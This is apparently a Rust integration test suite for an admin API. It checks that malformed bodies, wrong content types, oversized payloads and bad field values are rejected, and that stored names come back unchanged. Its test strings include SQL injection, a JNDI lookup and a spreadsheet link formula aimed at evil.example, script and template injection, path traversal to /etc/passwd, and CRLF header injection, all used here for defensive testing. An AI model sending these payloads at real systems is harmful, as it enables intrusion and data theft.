//! Every operation that takes a body, with bodies that are wrong as a whole, and with one field wrong at a time.

use axum::http::Method;
use serde_json::{Value, json};
use testkit::TestApp;

use super::{Allowed, assert_field, assert_problem};
use crate::{
    requests::{address, example, operations, optional},
    witness,
};

/// Method, path, operation and good body of all that take one.
fn with_bodies() -> Vec<(Method, String, String, Value)> {
    let mut found = Vec::new();
    for (method, _, id) in operations() {
        let Some(mut body) = example(&id) else { continue };
        if ["add_server", "test_server"].contains(&&*id) {
            // Where nothing listens.
            body["port"] = json!(1);
        }
        if id == "add_admin" {
            body["role"] = json!("nobody");
        }
        if id == "import_admins" {
            body["rows"] = json!([]);
        }
        if id == "create_platform_role" {
            body["key"] = json!("support");
        }
        if id == "create_role" {
            body["key"] = json!("staff");
        }
        if ["save_roles", "preview_roles"].contains(&&*id) {
            body["roles"] = json!([]);
        }
        if id == "change_tenant_settings" {
            body["networks"] = json!(["nowhere"]);
        }
        if id == "edit_role" {
            body["rank"] = json!(0);
        }
        if id == "declare_module" {
            body["actions"] = json!([]);
        }
        if id == "create_group" {
            body["name"] = json!(" ");
        }
        if id == "start_access_review" {
            body["deadline_in_days"] = json!(0);
        }
        if id == "open_access_grant" {
            body["minutes"] = json!(0);
        }
        if id == "change_tenants" {
            body["tenants"] = json!([]);
        }
        if id == "check_member_import" {
            body["rows"] = json!([]);
        }
        if id == "change_members" {
            body["members"] = json!([]);
        }
        if id == "edit_tenant" {
            body["slug"] = json!("root");
        }
        if id == "edit_plan" {
            body["name"] = json!(" ");
        }
        if id == "create_plan" {
            body["key"] = json!("starter");
        }
        if id == "add_email_domain" {
            body["domain"] = json!("localhost");
        }
        if id == "create_variable" {
            body["key"] = json!("1");
        }
        if id.ends_with("_audit_view") {
            // Of a tenant that is not there, or where no other may be named.
            body["filter"]["tenant"] = json!("nowhere");
        }
        if ["delete_tenant", "delete_tenant_now"].contains(&&*id) {
            body["confirm"] = json!("other");
        }
        found.push((method.parse().expect("a method"), address(&id, |_| None), id, body));
    }
    found
}

const JSON: &str = "application/json";

#[tokio::test]
async fn what_is_no_json_is_said_to_be_none() {
    let app = TestApp::new().await;
    let allowed = Allowed::new(&app).await;
    let before = witness::everything(&app).await;
    let deep = |n: usize| format!("{{\"a\":{}{}}}", "[".repeat(n), "]".repeat(n));
    let broken: [Vec<u8>; 13] = [
        b"".into(),
        b"{".into(),
        b"[".into(),
        b"nul".into(),
        b"{'a': 1}".into(),
        b"{\"a\": 1,}".into(),
        b"{} {}".into(),
        b"{\"a\": \0}".into(),
        b"{\"a\": \"\0\"}".into(),
        b"{\"a\": \"\xff\xfe\"}".into(),
        b"{\"a\": \"\\ud800\"}".into(),
        b"\xef\xbb\xbf{}".into(),
        deep(100_000).into(),
    ];
    for (method, path, id, good) in with_bodies() {
        let client = allowed.on(&path);
        for body in &broken {
            let what = format!("{id} with {:?}", String::from_utf8_lossy(&body[..body.len().min(40)]));
            let answer = client.send_bytes(method.clone(), &path, JSON, body.clone()).await;
            assert_problem(&answer, &what);
            // The first of several faults is told, and a field that is not known is one.
            assert!(
                [400, 422].contains(&answer.status.as_u16()),
                "{what}: {}",
                answer.text()
            );
        }
        // Where every field may be left out, an empty object is a body.
        let empty = good
            .as_object()
            .into_iter()
            .flatten()
            .any(|(field, _)| !optional(&id, field))
            .then_some("{}");
        for body in ["[]", "\"text\"", "1", "true", "null"].into_iter().chain(empty) {
            let what = format!("{id} with {body}");
            let answer = client.send_bytes(method.clone(), &path, JSON, body).await;
            assert_problem(&answer, &what);
            assert_eq!(
                (answer.status.as_u16(), &*answer.code()),
                (422, "invalid"),
                "{what}: {}",
                answer.text()
            );
        }
        for kind in [
            "text/plain",
            "application/x-www-form-urlencoded",
            "multipart/form-data",
            "",
            "application/jsonp",
        ] {
            let answer = client.send_bytes(method.clone(), &path, kind, good.to_string()).await;
            assert_problem(&answer, &format!("{id} as {kind:?}"));
            assert_eq!(
                (answer.status.as_u16(), &*answer.code()),
                (415, "not_json"),
                "{id} as {kind}"
            );
        }
        let large = format!("{{\"a\": \"{}\"}}", "x".repeat(1024 * 1024));
        let answer = client.send_bytes(method.clone(), &path, JSON, large).await;
        assert_problem(&answer, &format!("{id} with more than 1 MiB"));
        assert_eq!((answer.status.as_u16(), &*answer.code()), (413, "too_large"), "{id}");
    }
    assert_eq!(before, witness::everything(&app).await, "something was stored");
}

#[tokio::test]
async fn a_wrong_field_is_named() {
    let app = TestApp::new().await;
    let allowed = Allowed::new(&app).await;
    let before = witness::everything(&app).await;
    for (method, path, id, good) in with_bodies() {
        let client = allowed.on(&path);
        let fields = good.as_object().expect("an object");
        // What the AuthZEN profile adds is for others to read.
        if id != "evaluate" {
            let mut more = good.clone();
            more["surprise"] = json!(1);
            let answer = client.send(method.clone(), &path, Some(&more)).await;
            assert_field(&answer, "surprise", &format!("{id} with an unknown field"));
        }
        for (field, value) in fields {
            let what = format!("{id} with {field}");
            let text = good.to_string();
            let twice = format!("{},{}:{value}}}", &text[..text.len() - 1], json!(field));
            let answer = client.send_bytes(method.clone(), &path, JSON, twice).await;
            assert_field(&answer, field, &format!("{what} twice"));

            let optional = optional(&id, field);
            let mut others = vec![json!(1.5), json!([[]]), json!({ "x": 1 })];
            if !value.is_boolean() {
                others.push(json!(true));
            }
            if !optional {
                others.push(Value::Null);
            }
            match value {
                Value::Number(_) => {
                    others.extend([json!("1"), json!(99_999_999_999_u64), json!(i64::MIN), json!(u64::MAX)])
                }
                Value::String(_) => others.extend([json!(1), json!(-1)]),
                // A user and a password may be any text.
                Value::Null if id == "change_mail_server" => {}
                _ => others.push(json!("text")),
            }
            for other in others {
                let mut wrong = good.clone();
                wrong[field] = other.clone();
                let answer = client.send(method.clone(), &path, Some(&wrong)).await;
                assert_field(&answer, field, &format!("{what} = {other}"));
                assert_eq!(
                    (answer.status.as_u16(), &*answer.code()),
                    (422, "invalid"),
                    "{what} = {other}"
                );
            }
            if optional {
                continue;
            }
            let mut missing = good.clone();
            missing.as_object_mut().expect("an object").remove(field);
            let answer = client.send(method.clone(), &path, Some(&missing)).await;
            assert_field(&answer, field, &format!("{what} missing"));
        }
    }
    assert_eq!(before, witness::everything(&app).await, "something was stored");
}

/// Texts that are text, and that somebody downstream may take for something else.
const HARMLESS: [&str; 8] = [
    "Robert'); DROP TABLE users; --",
    "\" or \"\"=\"",
    "Zoë 🎓 👩‍👩‍👧‍👦",
    "${jndi:ldap://evil.example/x}",
    "{{7*7}}<%= 7*7 %>",
    "<script>alert(1)</script>",
    "=HYPERLINK(\"https://evil.example\")",
    "../../etc/passwd",
];

/// Texts that no name may hold.
fn forbidden() -> [String; 9] {
    [
        "a\0b".into(),
        "a\u{202e}b".into(),
        "a\u{200b}b".into(),
        "\u{feff}a".into(),
        "a\r\nSet-Cookie: x=1".into(),
        "\u{1b}[31ma".into(),
        "x".repeat(300),
        "😀".repeat(10_000),
        " ".into(),
    ]
}

#[tokio::test]
async fn texts_are_taken_for_what_they_are() {
    let app = TestApp::new().await;
    let allowed = Allowed::new(&app).await;
    let before = witness::everything(&app).await;
    for (method, path, id, good) in with_bodies() {
        // Each tries to connect where the text says; once is enough, with the other of the two.
        if id == "add_server" {
            continue;
        }
        let client = allowed.on(&path);
        for (field, value) in good.as_object().expect("an object") {
            if !value.is_string() {
                continue;
            }
            let texts = HARMLESS.iter().map(|text| (*text).to_owned()).chain(forbidden());
            for (n, text) in texts.enumerate() {
                // PostgreSQL has databases of any name, up to its length.
                let of_postgres =
                    id == "attach_tenant" && ["database", "schema"].contains(&&**field) && text.len() < 64;
                let free = n < HARMLESS.len()
                    && (field == "name"
                        || [
                            ("change_tenants", "reason"),
                            ("change_branding", "product_name"),
                        ]
                        .contains(&(&*id, &**field)))
                    || (&*id, &**field) == ("test_server", "password")
                    // Takes nothing but a reason, which may be anything that can be read.
                    || (id == "require_new_passwords" || (&*id, &**field) == ("give_up_tenant", "reason")) && (n < HARMLESS.len() || text == "x".repeat(300));
                if free || of_postgres && !text.contains('\0') {
                    // Stored as it is, or used as it is: see the next test.
                    continue;
                }
                let mut body = good.clone();
                body[field] = json!(text);
                let answer = client.send(method.clone(), &path, Some(&body)).await;
                let what = format!("{id} with {field} = {:?}", text.chars().take(30).collect::<String>());
                assert_problem(&answer, &what);
            }
        }
    }
    assert_eq!(before, witness::everything(&app).await, "something was stored");
}

#[tokio::test]
async fn a_hostile_name_comes_back_as_it_went() {
    let app = TestApp::new().await;
    let allowed = Allowed::new(&app).await;
    for (name, n) in HARMLESS.into_iter().zip(1..) {
        let renamed = allowed
            .owner
            .if_match(n)
            .send(Method::PATCH, "/api/v1/me", Some(&json!({ "name": name })))
            .await;
        assert_eq!(renamed.status.as_u16(), 200, "{name}: {}", renamed.text());
        assert_eq!(allowed.owner.get("/api/v1/me").await.json()["name"], json!(name));

        let tenant = json!({ "name": name, "slug": format!("t{n}"), "isolation": "schema" });
        let created = allowed.root.post("/api/v1/platform/tenants", &tenant).await;
        assert_eq!((created.status.as_u16(), &created.json()["name"]), (201, &json!(name)));
        let search: String = url_encoded(name);
        let found = allowed
            .root
            .get(&format!("/api/v1/platform/tenants?search={search}"))
            .await
            .json();
        assert_eq!(found["items"][0]["slug"], json!(format!("t{n}")), "{name}: {found}");

        let invitation = json!({ "email": format!("n{n}@example.com"), "name": name, "role": "member" });
        let invited = allowed.owner.post("/api/v1/tenants/acme/members", &invitation).await;
        assert_eq!(invited.status.as_u16(), 201, "{name}: {}", invited.text());
    }
    let waiting = allowed.owner.get("/api/v1/tenants/acme/invitations").await.json();
    for name in HARMLESS {
        let held = waiting["items"]
            .as_array()
            .expect("items")
            .iter()
            .any(|it| it["name"] == json!(name));
        assert!(held, "{name} in {waiting}");
    }
}

fn url_encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}
